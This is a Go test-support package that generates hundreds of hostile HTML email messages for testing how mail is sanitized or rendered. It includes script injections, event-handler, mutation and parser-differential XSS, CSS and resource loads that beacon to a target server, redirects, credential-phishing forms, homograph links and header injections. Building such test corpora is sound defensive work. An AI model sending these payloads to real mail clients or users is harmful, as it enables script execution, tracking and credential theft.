// Package hostilemail creates messages that attack their reader in a browser: they try to run
// a script, to load something, or to replace the page around them. It is for tests.
package hostilemail

import (
	"fmt"
	"html"
	"strings"
)

// Message is one hostile message.
type Message struct {
	Name string // what it tries
	// Its header fields, and the name of its attachment.
	Subject, From, Filename string
	HTML                    string
}

// All returns the messages. Every URL in them begins with target, and each script requests
// one if it runs, so the server at target sees every successful attack.
func All(target string) []Message {
	var all []Message
	script := fmt.Sprintf(`location='%s/script/ID'`, target)
	add := func(name, source string) {
		id := fmt.Sprintf("%03d", len(all)+1)
		fill := strings.NewReplacer("RUN", strings.ReplaceAll(script, "ID", id), "URL", target+"/load/"+id, "TARGET", target, "ID", id).Replace
		hostile := fill(headers[len(all)%len(headers)])
		all = append(all, Message{
			Name: id + " " + name, HTML: fill(source),
			Subject: hostile, From: hostile, Filename: strings.NewReplacer("/", "_", "\\", "_").Replace(hostile),
		})
	}
	for _, group := range []struct {
		name    string
		sources []string
	}{
		{"script", scripts},
		{"event handler", handlers},
		{"foreign content", foreign},
		{"parsing", parsing},
		{"mutation", mutations},
		{"style", styles},
		{"load", loads},
		{"navigation", navigations},
		{"links", links},
	} {
		for i, source := range group.sources {
			add(fmt.Sprintf("%s %d", group.name, i+1), source)
		}
	}
	for _, spelling := range spellings("RUN") {
		for _, place := range places {
			add("javascript: in "+place[:min(12, len(place))], strings.ReplaceAll(place, "JS", spelling))
		}
	}
	add("nested elements", strings.Repeat("<div>", 50_000)+`<img src=x onerror="RUN">`)
	add("nested tables", strings.Repeat("<table><tr><td>", 5_000)+`<script>RUN</script>`)
	add("nested foreign content", strings.Repeat("<svg><math>", 5_000)+`<style><img src=x onerror="RUN">`)
	add("nested formatting", strings.Repeat("<b><i><a href=x>", 5_000)+`<img src=URL onerror="RUN">`)
	add("many attributes", "<img "+strings.Repeat("a=b ", 50_000)+`src=URL onerror="RUN">`)
	add("a long address", `<a href="javascript:RUN//`+strings.Repeat("x", 500_000)+`">x</a>`)
	add("a style that never ends", "<style>"+strings.Repeat("@media all{", 20_000)+"body{background:url(URL)}")
	add("functions in functions", `<p style="width:`+strings.Repeat("calc(", 20_000)+`url(URL)">x</p>`)
	return all
}

// headers are attacks for subjects, names and file names.
var headers = []string{
	`<script>RUN</script>`, `"><img src=URL onerror="RUN">`, `'><svg onload="RUN">`, `</title><script>RUN</script>`,
	`{{.}}<script>RUN</script>`, `javascript:RUN`, `</textarea><img src=URL>`, `</script><script>RUN</script>`,
	`<!--<img src="--><img src=x onerror=RUN//">`, `&lt;script&gt;RUN&lt;/script&gt;`, `<iframe srcdoc="<script>RUN</script>">`,
	`" autofocus onfocus="RUN" x="`, `<style>@import 'URL'</style>`, `<meta http-equiv=refresh content="0;url=URL">`,
}

var scripts = []string{
	`<script>RUN</script>`, `<SCRIPT>RUN</SCRIPT>`, `<script src="URL"></script>`, `<script type=module src="URL"></script>`,
	`<script/x>RUN</script>`, `<script
>RUN</script	>`, `<script>RUN`, `<scr<script>ipt>RUN</scr</script>ipt>`,
	`<<script>RUN//<</script>`, `<script>RUN</script foo>`, `<script><!--<script>RUN</script>`, "<scri\x00pt>RUN</scri\x00pt>",
	`<script charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-</script>`, `+ADw-script+AD4-RUN+ADw-/script+AD4-`,
	`<script type=importmap>{"imports":{"x":"URL"}}</script><script type=module>import 'x'</script>`,
	`<script type=speculationrules>{"prefetch":[{"urls":["URL"]}],"prerender":[{"urls":["URL"]}]}</script>`,
	`<noscript><script>RUN</script></noscript>`, `<template><script>RUN</script></template>`,
	`<template shadowrootmode=open><script>RUN</script><img src=URL onerror="RUN"></template>`,
	`<xml><script>RUN</script></xml>`, `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">RUN</html:script>`,
	`<![CDATA[<script>RUN</script>]]>`, `<!--[if gte IE 4]><script>RUN</script><![endif]-->`,
	`<!--[if !mso]><!--><script>RUN</script><!--<![endif]-->`, `<![if !mso]><script>RUN</script><![endif]>`,
	`<object classid="clsid:x" data="URL"><param name=src value="javascript:RUN"><script>RUN</script></object>`,
	`<embed src="URL" type="text/html">`, `<applet code="URL"><script>RUN</script></applet>`,
}

var handlers = []string{
	`<img src=x onerror="RUN">`, `<img src=x onerror=RUN>`, `<img/src=x/onerror=RUN>`, `<IMG SRC=x OnErRoR="RUN">`,
	`<img src="x` + "`" + `onerror=RUN` + "`" + `">`, `<img """><script>RUN</script>">`, `<img src=x one` + "\x00" + `rror="RUN">`,
	`<img src=x onerror="&#108;ocation='TARGET/script/ID'">`, `<body onload="RUN">`, `<body onpageshow="RUN" onhashchange="RUN">`,
	`<svg onload="RUN">`, `<svg/onload=RUN>`, `<details open ontoggle="RUN"><summary>x</summary></details>`,
	`<video src=x onerror="RUN">`, `<audio src=x onerror="RUN">`, `<video><source onerror="RUN" src=x></video>`,
	`<input autofocus onfocus="RUN">`, `<select autofocus onfocus="RUN"><option>x</select>`, `<textarea autofocus onfocus="RUN">x</textarea>`,
	`<a href="#" autofocus tabindex=1 onfocus="RUN">x</a>`, `<div contenteditable autofocus onfocus="RUN">x</div>`,
	`<marquee onstart="RUN">x</marquee>`, `<style onload="RUN"></style>`, `<link rel=stylesheet href="URL" onload="RUN" onerror="RUN">`,
	`<iframe onload="RUN"></iframe>`, `<object data=x onerror="RUN"></object>`, `<frameset onload="RUN"><frame src="URL"></frameset>`,
	`<p style="animation:x 1s" onanimationstart="RUN">x</p><style>@keyframes x{}</style>`,
	`<p style="transition:color 1s" ontransitionend="RUN" id=x>x</p>`, `<div popover id=p onbeforetoggle="RUN">x</div>`,
	`<p oncontentvisibilityautostatechange="RUN" style="content-visibility:auto">x</p>`, `<meter onmouseover="RUN">x</meter>`,
	`<p/onscrollend=RUN style="overflow:scroll;height:1px">x<br>y</p>`, `<img src=x: onerror="RUN" src="y">`,
}

var foreign = []string{
	`<svg><script>RUN</script></svg>`, `<svg><script href="URL"/></svg>`, `<svg><script xlink:href="URL"></script></svg>`,
	`<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>`, `<svg><animate onbegin="RUN" attributeName=x dur=1s></svg>`,
	`<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>`,
	`<svg><set attributeName=onmouseover to="RUN"/></svg>`, `<svg><use href="URL#x"/></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>`,
	`<svg><image href="URL"/></svg>`, `<svg><image xlink:href="URL"/></svg>`, `<svg><feImage href="URL"/></svg>`,
	`<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="RUN"><img src=URL></foreignObject></svg>`,
	`<svg><style>*{background:url(URL)}</style><rect width=9 height=9 fill="url(URL)"/></svg>`, `<svg><desc><script>RUN</script></desc></svg>`,
	`<svg><title><img src=x onerror="RUN"></title></svg>`, `<svg><handler type="application/javascript">RUN</handler></svg>`,
	`<svg xmlns:x="URL"><x:script>RUN</x:script></svg>`, `<math href="javascript:RUN">x</math>`, `<math><maction actiontype="statusline#URL" xlink:href="javascript:RUN">x</maction></math>`,
	`<math><mi xlink:href="javascript:RUN">x</mi></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror="RUN"></annotation-xml></math>`,
	`<svg><![CDATA[><img src=x onerror="RUN">]]></svg>`, `<svg></p><style><a id="</style><img src=x onerror='RUN'>">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">`,
	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>">`,
}

// parsing are attacks that two parsers read as different elements.
var parsing = []string{
	`<noscript><p title="</noscript><img src=x onerror='RUN'>"></noscript>`, `<style><img title="</style><img src=x onerror='RUN'>"></style>`,
	`<title><img title="</title><img src=x onerror='RUN'>"></title>`, `<textarea><img title="</textarea><img src=x onerror='RUN'>"></textarea>`,
	`<xmp><img title="</xmp><img src=x onerror='RUN'>"></xmp>`, `<iframe><img title="</iframe><img src=x onerror='RUN'>"></iframe>`,
	`<noembed><img title="</noembed><img src=x onerror='RUN'>"></noembed>`, `<noframes><img title="</noframes><img src=x onerror='RUN'>"></noframes>`,
	`<plaintext><img src=x onerror="RUN">`, `<template><style></template><img src=x onerror="RUN"></style>`,
	`<select><template><img src=x onerror="RUN"></template></select>`, `<select><style></select><img src=x onerror="RUN"></style>`,
	`<table><style><td></style><img src=x onerror="RUN">`, `<!-- --!><img src=x onerror="RUN"> -->`, `<!--><img src=x onerror="RUN">-->`,
	`<!---><img src=x onerror="RUN">-->`, `<!-- > --><img src=x onerror="RUN"><!-- -->`, `<!x><img src=x onerror="RUN">`,
	`</x y=">"><img src=x onerror="RUN">`, `<? ><img src=x onerror="RUN">?>`, `<a title='"'onmouseover="RUN" autofocus onfocus="RUN" href=#>x</a>`,
	`<img alt="&quot;><script>RUN</script>">`, `<img alt='&#34;&#62;&#60;script&#62;RUN&#60;/script&#62;'>`, `&lt;img src=x onerror=&quot;RUN&quot;&gt;`,
	`<p title="` + "\u2028" + `"onclick=RUN>x</p>`, "<img\x0csrc=x\x0conerror=RUN>", "<img\x0bsrc=x\x0bonerror=RUN>",
	`<img src=x onerror` + "\u00a0" + `="RUN">`, `<=img src=x onerror="RUN">`, `<img src='x' ' onerror="RUN" '>`,
}

// mutations change when they are serialized and parsed again.
var mutations = []string{
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">`,
	`<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=RUN src=1>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>`,
	`<svg><p><style><g title="</style><img src onerror=RUN>">`, `<svg></p><math><p></svg><style><img src=x onerror=RUN></style>`,
	`<math><mi><style><!--</style><img src=x onerror="RUN">--></mi></math>`, `<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=RUN></desc></svg>`,
	`<noscript><style></noscript><img src=x onerror="RUN"></style></noscript>`, `<svg><style>&lt;/style>&lt;img src=x onerror=RUN></style></svg>`,
	`<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN>">`,
	`<math><annotation-xml encoding=text/html><style><!--</style><img src=x onerror=RUN>--></annotation-xml></math>`,
	`<p id="` + "`" + `"><img src="` + "``" + `onerror=RUN">`, `<listing>&lt;img src=x onerror=RUN&gt;</listing>`, `<pre>
&lt;img src=x onerror=RUN&gt;</pre>`,
	`<table><a href="javascript:RUN"><tr><td>x</table>`, `<b><p><style><b></style><img src=x onerror=RUN></p></b>`,
	`<select><math><mi><xmp></select><img src=x onerror=RUN></xmp>`, `<option><style></option></select><img src=x onerror="RUN"></style>`,
	`<svg><textarea><title><style><img src=x onerror=RUN></title></textarea></svg>`, `<dialog open><form method=dialog><button autofocus onfocus="RUN">x`,
}

var styles = []string{
	`<style>@import 'URL';</style>`, `<style>@import url(URL) screen;</style>`, `<style>@import url("URL") layer(x) supports(display:grid);</style>`,
	`<style>@font-face{font-family:x;src:url(URL)}body{font-family:x}</style><p>x</p>`, `<style>body{background:url(URL)}</style>`,
	`<style>body{background:URL("URL")}</style>`, `<style>body{background:u\72l(URL)}</style>`, `<style>body{background:\75\72\6c(URL)}</style>`,
	`<style>body{background/**/:/**/url(/**/URL)}</style>`, `<style>body{background:image-set("URL" 1x)}</style>`,
	`<style>body{background:-webkit-image-set(url(URL) 1x)}</style>`, `<style>body{background:cross-fade(url(URL),url(URL),50%)}</style>`,
	`<style>body{background:src("URL")}</style>`, `<style>:root{--x:url(URL)}body{background:var(--x)}</style>`, `<style>body{list-style-image:url(URL);display:list-item}</style>`,
	`<style>body{cursor:url(URL),auto}</style>`, `<style>body{content:url(URL)}</style>`, `<style>body::before{content:url(URL)}</style>`,
	`<style>body{border-image:url(URL) 1}</style>`, `<style>body{mask:url(URL)}</style>`, `<style>body{filter:url(URL#x)}</style>`,
	`<style>body{clip-path:url(URL#x)}</style>`, `<style>body{shape-outside:url(URL);float:left}</style>`, `<style>body{offset-path:url(URL)}</style>`,
	`<style>@namespace x url(URL);</style>`, `<style>@property --x{syntax:"<url>";inherits:true;initial-value:url(URL)}body{background:var(--x)}</style>`,
	`<style>@supports (display:block){body{background:url(URL)}}</style>`, `<style>@media all{@import 'URL';body{background:url(URL)}}</style>`,
	`<style>@container (min-width:0){body{background:url(URL)}}</style>`, `<style>@layer x{body{background:url(URL)}}</style>`,
	`<style>body{&{background:url(URL)}}</style>`, `<style>body{width:expression(RUN)}</style>`, `<style>body{-moz-binding:url(URL#x);behavior:url(URL)}</style>`,
	`<style><!--body{background:url(URL)}--></style>`, `<style>/*</style><img src=x onerror="RUN">*/</style>`, `<style>body{x:"</style><img src=x onerror='RUN'>"}</style>`,
	`<style>a[href^="x"]{background:url(URL)}</style><a href="https://x.example">x</a>`, `<style>@charset "utf-7";body{background:url(URL)}</style>`,
	`<p style="background:url(URL)">x</p>`, `<p style="background:url('URL')">x</p>`, `<p style="background:url(&quot;URL&quot;)">x</p>`,
	`<p style="background&#58;url&#40;URL&#41;">x</p>`, `<p style="width:expression(RUN)">x</p>`, `<p style="background:url(javascript:RUN)">x</p>`,
	`<p style="background:url(//TARGET)">x</p>`, `<p style="x:'}body{background:url(URL)}'">x</p>`, "<p style=\"background:u\x00rl(URL)\">x</p>",
	`<p style="background-image:image(&quot;URL&quot;)">x</p>`, `<p style='font-family:"x";background:url("URL")'>x</p>`,
	`<div style="position:fixed;inset:0;z-index:9"><a href="URL" style="display:block;height:100vh">x</a></div>`,
}

var loads = []string{
	`<img src="URL">`, `<img src=' URL '>`, `<img src="&#104;ttp&#58;//` + `TARGET">`, `<img srcset="URL 1x, URL 2x">`, `<img src="URL" srcset="URL 2x" sizes=1px>`,
	`<picture><source srcset="URL"><img src="URL"></picture>`, `<img lowsrc="URL" dynsrc="URL" longdesc="URL" src="URL">`, `<image src="URL">`,
	`<input type=image src="URL">`, `<body background="URL">`, `<table background="URL"><tr><td background="URL">x</table>`, `<video poster="URL" src="URL" autoplay></video>`,
	`<audio src="URL" autoplay></audio>`, `<video><track src="URL" default kind=subtitles></video>`, `<bgsound src="URL">`, `<embed src="URL">`, `<object data="URL">x</object>`,
	`<iframe src="URL"></iframe>`, `<iframe srcdoc="<img src='URL'>"></iframe>`, `<frame src="URL">`, `<link rel=stylesheet href="URL">`, `<link rel=preload as=image href="URL">`,
	`<link rel=prefetch href="URL">`, `<link rel=preconnect href="TARGET">`, `<link rel=dns-prefetch href="TARGET">`, `<link rel=prerender href="URL">`, `<link rel=icon href="URL">`,
	`<link rel=manifest href="URL">`, `<link rel=modulepreload href="URL">`, `<link rel=preload as=image imagesrcset="URL 1x" imagesizes=1px>`, `<html manifest="URL">`,
	`<base href="TARGET/"><img src="load/ID"><link rel=stylesheet href=x>`, `<img src="//TARGET">`, `<img src="https:\\TARGET/load/ID">`, `<img src="cid:x" srcset="URL">`,
	`<img src="cid:x&quot; onerror=&quot;RUN">`, `<img src="cid:../../../load">`, `<blink src="URL"><fencedframe src="URL"></fencedframe><portal src="URL"></portal>`,
	`<style>@import url(//TARGET)</style>`, `<p cite="URL"><q cite="URL">x</q><blockquote cite="URL">x</blockquote>`,
}

var navigations = []string{
	`<meta http-equiv=refresh content="0;url=URL">`, `<meta http-equiv="refresh" content="0;javascript:RUN">`, `<META HTTP-EQUIV=REFRESH CONTENT='0; URL="URL"'>`,
	`<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">`, `<meta http-equiv=Set-Cookie content="a=b"><meta http-equiv=refresh content="1;URL">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>RUN</script>`,
	`<meta name=referrer content=unsafe-url><img src="URL">`, `<base target=_top><a href="URL" autofocus>x</a>`, `<form action="URL" target=_top><input name=password autofocus><button>x</button></form>`,
	`<form id=f action="javascript:RUN"></form><button form=f formaction="URL">x</button>`, `<isindex action="javascript:RUN" type=image>`,
	`<iframe src="javascript:top.location='URL'"></iframe>`, `<object data="javascript:top.location='URL'"></object>`,
	`<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='URL'</script>"></iframe>`,
	`<iframe src="data:text/html,<script>top.location='URL'</script>"></iframe>`, `<dialog open><form action=URL method=post><input type=submit autofocus></form></dialog>`,
	`<button popovertarget=x commandfor=x command=show-popover>x</button><div id=x popover><img src=URL></div>`, `<map name=m><area shape=default href="javascript:RUN" target=_top></map><img usemap=#m src=x>`,
}

var links = []string{
	`<a href="URL" target=_top>x</a>`, `<a href="URL" ping="URL">x</a>`, `<a href="URL" download>x</a>`, `<a href="vbscript:RUN">x</a>`,
	`<a href="data:text/html,<script>RUN</script>">x</a>`, `<a href="blob:URL">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="view-source:URL">x</a>`,
	`<a href="/sign-out">x</a>`, `<a href="?x">x</a>`, `<a href="https://bank.example@TARGET/">https://bank.example</a>`, `<a href="https://xn--80ak6aa92e.com">https://apple.com</a>`,
	`<a href="filesystem:URL">x</a>`, `<a attributionsrc="URL" href="URL">x</a>`, `<a href="intent:URL">x</a>`,
}

// places are the places of an address.
var places = []string{
	`<a href="JS">x</a>`, `<img src="JS">`, `<iframe src="JS"></iframe>`, `<form action="JS"><button autofocus>x</button></form>`,
	`<body background="JS">`,
}

// spellings are spellings of a javascript: URL that some program has accepted.
func spellings(run string) []string {
	js := "javascript:" + run
	var decimal strings.Builder
	for _, r := range "javascript:" {
		fmt.Fprintf(&decimal, "&#%07d", r)
	}
	return []string{
		js, "JaVaScRiPt:" + run, " \t\n" + js, "java\tscript:" + run, "java\nscript:" + run, "java&#x0D;script:" + run, "&#1;" + js,
		decimal.String() + run, "javascript&colon;" + run, "java&Tab;script&NewLine;:" + run, "javascript://%0a" + run, html.EscapeString("javascript:\u2028") + run,
	}
}
